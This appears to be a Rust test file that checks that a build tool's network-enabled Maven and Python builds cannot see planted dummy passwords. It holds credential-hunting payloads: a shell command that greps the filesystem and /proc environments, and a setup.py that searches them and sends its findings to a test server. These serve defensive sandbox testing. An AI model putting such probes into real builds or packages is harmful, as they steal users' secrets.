//! Builds that may use the network at the user's request: they see where packages come from, but no passwords.
//!
//! They run where `FOCALIST_NEED_TOOLS` is set.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use focalist::runner::java::PrepareOptions;

use crate::java_attacks::{antrun, project_with};
use crate::java_downloads::{Reply, Server, with_settings};
use crate::prepare::{TURN, has_tools, prepare, site};
use crate::python_escapes;
use crate::support::Place;

/// A program that searches all files that it sees, variables and commands for the word `hunter2`, without containing
/// the word itself.
const LOOKS: &str = "grep -rls hunter[2] / --exclude-dir=usr --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev > told.txt; \
    cat /proc/*/environ /proc/*/cmdline 2> /dev/null | tr '\\0' '\\n' | grep hunter[2] >> told.txt; \
    grep -rls of-the-company / --include=settings*.xml --exclude-dir=usr --exclude-dir=proc --exclude-dir=sys | wc -l >> told.txt";

#[test]
fn a_maven_build_with_the_network_sees_repositories_and_no_password() {
    if !has_tools() {
        return;
    }
    let _turn = TURN.lock();
    let place = Place::new();
    let settings = "<settings><servers><server><id>company</id><username>ada</username><password>hunter2</password>
        <configuration><httpHeaders><property><name>Private-Token</name><value>hunter2</value></property></httpHeaders>
        </configuration></server></servers>
        <mirrors><mirror><id>company</id><url>https://ada:hunter2@of-the-company.invalid/</url><mirrorOf>company</mirrorOf>
        </mirror></mirrors>
        <profiles><profile><id>own</id><properties><token>hunter2</token></properties></profile></profiles></settings>";
    let looks = LOOKS.replace('&', "&amp;").replace('>', "&gt;");
    let looks = antrun(&format!(
        "<exec executable=\"sh\"><arg value=\"-c\"/><arg value=\"{looks}\"/></exec>"
    ));
    let root = project_with(&place, "looking", ("", &looks));
    let security = "<settingsSecurity><master>hunter2</master></settingsSecurity>";
    place.write("home/.m2/settings-security.xml", security);
    let asked = PrepareOptions {
        has_build_network: true,
        is_rebuilt: true,
        ..with_settings(&place, root, settings)
    };
    let build = prepare(&site(), &asked).build;
    assert_eq!(build.modules.len(), 1, "{:?}", build.unbuilt);
    let told = fs::read_to_string(build.tree.join("told.txt")).expect("it has looked");
    assert_eq!(told.trim(), "1", "where mirrors are is no secret");
}

/// The same in Python; it reports what it finds to the test's server.
const SETUP: &str = "import os, urllib.parse, urllib.request
word = b'hunter' + b'2'
found = [name for name, value in os.environb.items() if word in value]
for number in os.listdir('/proc'):
    for name in ('environ', 'cmdline'):
        try:
            with open(f'/proc/{number}/{name}', 'rb') as file:
                if word in file.read(): found.append(name.encode())
        except OSError:
            pass
knows = False
for folder, folders, names in os.walk('/'):
    if folder == '/': folders[:] = set(folders) - {'usr', 'proc', 'sys', 'dev'}
    for name in names:
        try:
            with open(os.path.join(folder, name), 'rb') as file: text = file.read(1 << 20)
        except OSError:
            continue
        if word in text: found.append(name.encode())
        knows |= name == 'pip.conf' and b'/in-a-file/' in text
knows &= '/in-a-variable/' in os.environ.get('PIP_EXTRA_INDEX_URL', '')
told = urllib.parse.quote(b','.join(found) or 'nothing') + ('/knows' if knows else '')
try:
    urllib.request.urlopen('SERVER/told/' + told)
except OSError:
    pass
from setuptools import setup
setup(name='looking', version='1', py_modules=['looking'])
";

#[test]
fn a_python_build_with_the_network_sees_indexes_and_no_password() {
    if !has_tools() {
        return;
    }
    let _turn = python_escapes::TURN.lock();
    let place = tempfile::tempdir().expect("a folder can be made");
    let server = Server::start(|_| Reply::Missing);
    let with_password = server.url.replace("//", "//ada:hunter2@");
    let setup = SETUP.replace("SERVER", &server.url);
    let settings = format!("[global]\nextra-index-url = {with_password}/in-a-file/\n");
    for (path, text) in [
        ("looking/setup.py", setup.as_str()),
        ("looking/looking.py", "x = 1\n"),
        (
            "looking/tests/test_x.py",
            "import looking\n\ndef test(): assert looking.x == 1\n",
        ),
        ("home/.config/pip/pip.conf", &settings),
    ] {
        let path = place.path().join(path);
        fs::create_dir_all(path.parent().expect("it lies in a folder")).expect("it is made");
        fs::write(path, text).expect("it is written");
    }
    let output = Command::new(env!("CARGO_BIN_EXE_focalist"))
        .args(["prepare", "--rebuild", "--build-network"])
        .arg(place.path().join("looking"))
        .env("FOCALIST_CACHE", cache())
        .env("FOCALIST_WORKSPACE", place.path())
        .env("HOME", place.path().join("home"))
        .env("XDG_CACHE_HOME", cache())
        .env(
            "PIP_EXTRA_INDEX_URL",
            format!("{with_password}/in-a-variable/"),
        )
        .env("UV_INDEX_OWN_PASSWORD", "hunter2")
        .output()
        .expect("the program can be started");
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{said}");
    let told = server.asked("/told/");
    assert!(!told.is_empty(), "it has looked: {said}");
    for asked in told {
        assert_eq!(asked.path, "/told/nothing/knows");
    }
}

fn cache() -> PathBuf {
    Path::new(env!("CARGO_TARGET_TMPDIR")).join("python-escapes")
}
